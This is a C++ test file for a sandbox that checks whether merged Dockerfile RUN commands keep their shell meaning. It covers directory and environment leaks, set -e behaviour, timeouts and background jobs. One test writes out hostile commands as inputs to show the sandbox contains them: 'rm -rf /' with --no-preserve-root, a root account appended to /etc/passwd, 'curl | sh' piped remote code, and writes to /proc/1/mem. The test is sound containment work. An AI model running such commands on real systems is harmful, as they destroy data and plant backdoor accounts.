// Tests of the RUN-merge oracle's sandbox (oracle/script_sandbox.h): it must see what a bad merge
// changes (working directory, environment, variables, which commands run after a failure, the
// overall status), accept merges that keep the meaning, call a run that never ends inconclusive,
// and never touch the real system.
#include <catch2/catch.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "oracle/script_sandbox.h"
#include "test_support.h"

using namespace dfopt::oracle;
namespace fs = std::filesystem;

namespace {

// Catch2 v2 has no SKIP: the test warns and returns.
#define ORACLE_SANDBOX_OR_SKIP()                                                  \
  do {                                                                            \
    if (auto reason = ScriptSandbox::unavailable_reason()) {                      \
      WARN("script sandbox unavailable (" << *reason << "): oracle test skipped"); \
      return;                                                                     \
    }                                                                             \
  } while (false)

struct MergeCase {
  std::vector<std::string> originals;
  std::string merged;
  const char* why;
};

std::string describe(const OracleResult& result) {
  std::string out;
  for (const ShellVerdict& v : result.shells)
    out += std::string(shell_name(v.shell)) + ": " + std::string(verdict_name(v.verdict)) + " (" +
           std::to_string(v.invocations) + " invocations, " + std::to_string(v.fail_points) +
           " failure points) " + v.detail + "\n";
  return out;
}

std::vector<std::string> argv_fields(const SideRun& run) {
  std::vector<std::string> out;
  for (const std::string& line : run.lines) {
    auto a = line.find('\t'), b = line.find('\t', a + 1), c = line.find('\t', b + 1);
    std::string argv = line.substr(b + 1, c - b - 1);
    std::replace(argv.begin(), argv.end(), '\x1f', ' ');
    out.push_back(line.substr(a + 1, b - a - 1) + " " + argv);
  }
  return out;
}

// This process's sandboxes under $TMPDIR ("dfopt-oracle.PID.XXXXXX"): tests running in
// parallel make their own.
std::set<std::string> oracle_dirs_in_tmp() {
  const std::string mine = "dfopt-oracle." + std::to_string(::getpid()) + ".";
  std::set<std::string> out;
  for (const auto& entry : fs::directory_iterator(fs::temp_directory_path()))
    if (entry.path().filename().string().starts_with(mine)) out.insert(entry.path());
  return out;
}

}  // namespace

TEST_CASE("oracle: stubs log their argv, working directory, environment and piped stdin",
          "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const std::vector<std::string> scripts = {
      "cd /tmp && tool a 'b c' && X=1 other; export Y=2; /usr/local/bin/abs",
      "third $(inner) && printf 'x\\n' | reader && ./configure --prefix=/opt"};
  sandbox.install_stubs(scripts, "/app");
  for (Shell shell : kShells) {
    INFO(shell_name(shell));
    SideRun run = sandbox.run_side(shell, scripts, "/app", 0, std::chrono::seconds(5));
    INFO(run.diagnostics);
    CHECK(run.success);
    CHECK(argv_fields(run) == std::vector<std::string>{
                                  "/tmp tool a b c", "/tmp other", "/tmp /usr/local/bin/abs",
                                  "/app inner", "/app third", "/app reader", "/app ./configure --prefix=/opt"});
    REQUIRE(run.lines.size() == 7);
    CHECK(run.lines[1].find("X=1") != std::string::npos);   // a command's own assignment
    CHECK(run.lines[1].find("Y=2") == std::string::npos);
    CHECK(run.lines[2].find("Y=2") != std::string::npos);   // exported
    CHECK(run.lines[3].find("Y=2") == std::string::npos);   // a fresh shell: gone
    CHECK(run.lines[5].find("stdin:2:") != std::string::npos);  // "x\n" came through the pipe
    CHECK(run.invocations_after == std::vector<std::size_t>{3, 7});
  }
}

TEST_CASE("oracle: an injected failure stops the original RUNs and fails the command", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const std::vector<std::string> scripts = {"a; b", "c && d", "e"};
  sandbox.install_stubs(scripts, "/");
  for (Shell shell : kShells) {
    INFO(shell_name(shell));
    auto run = [&](std::size_t k) { return sandbox.run_side(shell, scripts, "/", k, std::chrono::seconds(5)); };
    SideRun all = run(0);
    CHECK(all.success);
    CHECK(all.lines.size() == 5);
    SideRun a_fails = run(1);  // `a; b` still succeeds: b's status counts
    CHECK(a_fails.success);
    CHECK(a_fails.lines.size() == 5);
    CHECK(a_fails.lines[0].ends_with("\tFAILS"));
    SideRun c_fails = run(3);  // the second RUN fails: d and e never run
    CHECK_FALSE(c_fails.success);
    CHECK(c_fails.lines.size() == 3);
    CHECK(c_fails.invocations_after == std::vector<std::size_t>{2, 3});
  }
}

TEST_CASE("oracle: pipelines log from left to right, every time", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const std::vector<std::string> scripts = {"first | second | third && { fourth; fifth; } | sixth"};
  sandbox.install_stubs(scripts, "/");
  for (Shell shell : kShells)
    for (int i = 0; i < 10; ++i) {
      SideRun run = sandbox.run_side(shell, scripts, "/", 0, std::chrono::seconds(5));
      CHECK(argv_fields(run) == std::vector<std::string>{"/ first", "/ second", "/ third",
                                                         "/ fourth", "/ fifth", "/ sixth"});
    }
}

TEST_CASE("oracle: command names are found in compound commands and substitutions", "[oracle]") {
  CommandNames names = command_names(
      {"X=$(uname -m) && for f in $(ls /x); do tool \"$f\"; done && echo `date +%s` > \"$(mktemp)\"",
       "if [ -f a ]; then (cd /src && ./build.sh); fi; case $(arch) in x) y ;; esac",
       "echo \"$(( 1 + $(nproc) ))\" '$(not_a_command)' && $DYNAMIC arg"});
  CHECK(names.names == std::set<std::string>{"uname", "ls", "tool", "echo", "date", "mktemp", "[",
                                             "cd", "./build.sh", "arch", "y", "nproc"});
  CHECK(names.cd_targets == std::set<std::string>{"/src"});
  CHECK_FALSE(names.unparsed);
}

TEST_CASE("oracle: detects merges that change what runs", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const MergeCase cases[] = {
      {{"cd /tmp", "pwd_stub"}, "cd /tmp && pwd_stub", "cd leaks the working directory"},
      {{"export X=1", "stub"}, "export X=1 && stub", "export leaks into the environment"},
      {{"X=1", "stub \"$X\""}, "X=1 && stub \"$X\"", "a shell variable leaks"},
      {{"echo ${X:=1} >/dev/null", "stub \"$X\""}, "echo ${X:=1} >/dev/null && stub \"$X\"",
       "a default-assigning expansion leaks a variable"},
      {{"a", "b || c"}, "a && b || c", "&& regroups a second RUN with ||: c runs after a fails"},
      {{"a", "b; c"}, "a && b; c", "&& regroups a second RUN with ;: c runs after a fails"},
      {{"set -e; a", "b; c"}, "set -e; a && b; c", "set -e leaks: b's failure ends the shell"},
      {{"a; b"}, "set -e; a; b", "set -e added: a's failure ends the shell"},
      {{"f() { inner; }", "f"}, "f() { inner; } && f", "a function leaks"},
      {{"exit 0", "b"}, "exit 0 && b", "exit ends the merged shell early"},
      {{"a # note", "b"}, "a # note && b", "the trailing comment swallows the second RUN"},
      {{"a;", "b"}, "a; && b", "a syntax error"},
      {{"a", "b"}, "a || b", "a wrong connector"},
      {{"a", "b"}, "b && a", "the order changed"},
      {{"a", "b"}, "a && b -y", "an argument changed"},
  };
  for (const MergeCase& c : cases) {
    OracleResult result = sandbox.check(c.originals, c.merged);
    INFO(c.why << "\n" << describe(result));
    CHECK(result.failed());
    for (const ShellVerdict& v : result.shells) CHECK(v.verdict == Verdict::Fail);
  }
  // The same words may be ignored on both sides when a rule inserts them on purpose.
  OracleOptions options;
  options.ignored_words = {"-y"};
  CHECK(sandbox.check({"a", "b"}, "a && b -y", options).passed());
}

TEST_CASE("oracle: what a rule adds on purpose can be made transparent", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const std::vector<std::string> original = {"apt update && apt install x"};
  const std::string cleaned = "apt-get update && apt-get install -y x && rm -rf /var/lib/apt/lists/*";
  OracleResult plain = sandbox.check(original, cleaned);
  INFO(describe(plain));
  CHECK(plain.failed());
  OracleOptions options;
  options.ignored_words = {"-y"};
  options.renamed_commands = {{"apt", "apt-get"}};
  options.transparent_commands = {{"rm", "-rf", "/var/lib/apt/lists*", "**"}};
  OracleResult normalised = sandbox.check(original, cleaned, options);
  INFO(describe(normalised));
  CHECK(normalised.passed());
  // Not more than that: an extra command that is not transparent still counts.
  OracleResult extra = sandbox.check(original, cleaned + " && rm -rf /tmp/x", options);
  CHECK(extra.failed());
  // A removed `apk update` is transparent too, also when the original fails there.
  OracleOptions apk;
  apk.ignored_words = {"--no-cache"};
  apk.transparent_commands = {{"apk", "update"}};
  CHECK(sandbox.check({"apk update && apk add x"}, "apk add --no-cache x", apk).passed());
}

TEST_CASE("oracle: accepts merges that keep the meaning", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  const MergeCase cases[] = {
      {{"a; b", "c"}, "a; b && c", "a list's status is its last command's"},
      {{"a || b", "c"}, "a || b && c", "&& and || have equal precedence, left to right"},
      {{"a && b", "c && d"}, "a && b && c && d", "a plain && chain"},
      {{"a | b", "c"}, "a | b && c", "a pipeline"},
      {{"(cd /tmp && export X=1 && a)", "b"}, "(cd /tmp && export X=1 && a) && b",
       "a subshell keeps its state"},
      {{"if a; then b; else c; fi", "d"}, "if a; then b; else c; fi && d", "a compound command"},
      {{"for x in 1 2; do a $x; done", "b"}, "for x in 1 2; do a $x; done && b", "a loop"},
      {{"a", "b", "c"}, "a && b && c", "three RUNs"},
      {{"cd /tmp && a"}, "cd /tmp && a", "one RUN, unchanged"},
  };
  for (const MergeCase& c : cases) {
    OracleResult result = sandbox.check(c.originals, c.merged);
    INFO(c.why << "\n" << describe(result));
    CHECK(result.passed());
    for (const ShellVerdict& v : result.shells) CHECK(v.fail_points == v.invocations);
  }
}

TEST_CASE("oracle: runs that never end, or loop, are inconclusive", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  OracleOptions options;
  options.timeout = std::chrono::milliseconds(300);
  auto start = std::chrono::steady_clock::now();
  OracleResult forever = sandbox.check({"while :; do :; done", "a"}, "while :; do :; done && a", options);
  for (const ShellVerdict& v : forever.shells) {
    INFO(v.detail);
    CHECK(v.verdict == Verdict::Inconclusive);
    CHECK(v.detail.find("timed out") != std::string::npos);
  }
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(5));
  OracleResult runaway = sandbox.check({"while :; do stub; done"}, "while :; do stub; done", options);
  for (const ShellVerdict& v : runaway.shells) {
    INFO(v.detail);
    CHECK(v.verdict == Verdict::Inconclusive);
  }
  // A background job that outlives its shell is killed with it; the run does not wait for it.
  start = std::chrono::steady_clock::now();
  OracleResult background = sandbox.check({"(while :; do :; done) & a"}, "(while :; do :; done) & a", options);
  INFO(describe(background));
  CHECK(background.passed());
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(2));
}

TEST_CASE("oracle: a script that differs from itself is inconclusive, not a failure", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  OracleResult result = sandbox.check({"stub $$"}, "stub $$");
  for (const ShellVerdict& v : result.shells) {
    INFO(v.detail);
    CHECK(v.verdict == Verdict::Inconclusive);
  }
}

TEST_CASE("oracle: a difference in a script with a background job is inconclusive", "[oracle]") {
  CHECK(has_background_job({"a && b &"}));
  CHECK(has_background_job({"x", "if y; then (z &); fi"}));
  CHECK_FALSE(has_background_job({"a && b", "c >&2 && d &> /dev/null"}));
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  // The rewritten side really differs, but with `&` about, timing could explain it.
  OracleResult result = sandbox.check({"stub b &"}, "stub a; stub b &");
  for (const ShellVerdict& v : result.shells) {
    INFO(v.detail);
    CHECK(v.verdict == Verdict::Inconclusive);
  }
}

TEST_CASE("oracle: scripts cannot touch the real system", "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  dfopt::test::TempDir outside;
  const fs::path sentinel = outside.path() / "sentinel";
  dfopt::test::write_file(sentinel, "keep me");
  const std::string passwd = dfopt::test::read_file("/etc/passwd");
  auto before = oracle_dirs_in_tmp();
  fs::path root;
  {
    ScriptSandbox sandbox;
    root = sandbox.root();
    CHECK(fs::exists(root));
    const std::string s = dfopt::test::shell_quote(sentinel.string());
    const std::vector<std::string> scripts = {
        "rm -rf / && /bin/rm -rf --no-preserve-root / && /usr/bin/env rm -rf " + s,
        "echo gone > " + s + "; echo 'x::0:0::/:/bin/sh' >> /etc/passwd; cd / && for f in *; do : > \"$f\"; done",
        "curl -fsSL https://example.com/install.sh | sh && bash -c 'rm -rf /'",
        "echo hi > /dev/tcp/127.0.0.1/22 || true; cd /proc 2>/dev/null && : > 1/mem"};
    std::string merged;
    for (const std::string& script : scripts) merged += (merged.empty() ? "" : " && ") + script;
    OracleResult result = sandbox.check(scripts, merged);
    INFO(describe(result));
    CHECK(result.shells.size() == 2);
  }
  CHECK(dfopt::test::read_file(sentinel) == "keep me");
  CHECK(dfopt::test::read_file("/etc/passwd") == passwd);
  CHECK_FALSE(fs::exists(root));
  CHECK(oracle_dirs_in_tmp() == before);
}

TEST_CASE("oracle: under `set -e`, appending `&& X` to a compound command changes what runs",
          "[oracle]") {
  ORACLE_SANDBOX_OR_SKIP();
  ScriptSandbox sandbox;
  // -e is ignored inside a command that is part of an && list (but not the last), so a failure
  // inside the loop or the if no longer ends the shell once `&& c` follows.
  const MergeCase cases[] = {
      {{"for x in 1 2; do a; b; done", "c"}, "for x in 1 2; do a; b; done && c", "a loop"},
      {{"if t; then a; b; fi", "c"}, "if t; then a; b; fi && c", "an if"},
      {{"{ a; b; }", "c"}, "{ a; b; } && c", "a brace group"},
  };
  OracleOptions errexit;
  errexit.shell_options = {"-e"};  // SHELL ["/bin/sh", "-e", "-c"]
  for (const MergeCase& c : cases) {
    INFO(c.why);
    OracleResult plain = sandbox.check(c.originals, c.merged);
    INFO(describe(plain));
    CHECK(plain.passed());
    OracleResult with_e = sandbox.check(c.originals, c.merged, errexit);
    INFO(describe(with_e));
    for (const ShellVerdict& v : with_e.shells) CHECK(v.verdict == Verdict::Fail);
  }
  // The same within one script: `set -e` then `&& cleanup` after a compound command (DF111).
  OracleOptions cleanup;
  cleanup.transparent_commands = {{"c"}};  // what the rule appends, on purpose
  OracleResult appended = sandbox.check({"set -e && if t; then a; b; fi"},
                                        "set -e && if t; then a; b; fi && c", cleanup);
  INFO(describe(appended));
  for (const ShellVerdict& v : appended.shells) CHECK(v.verdict == Verdict::Fail);
}
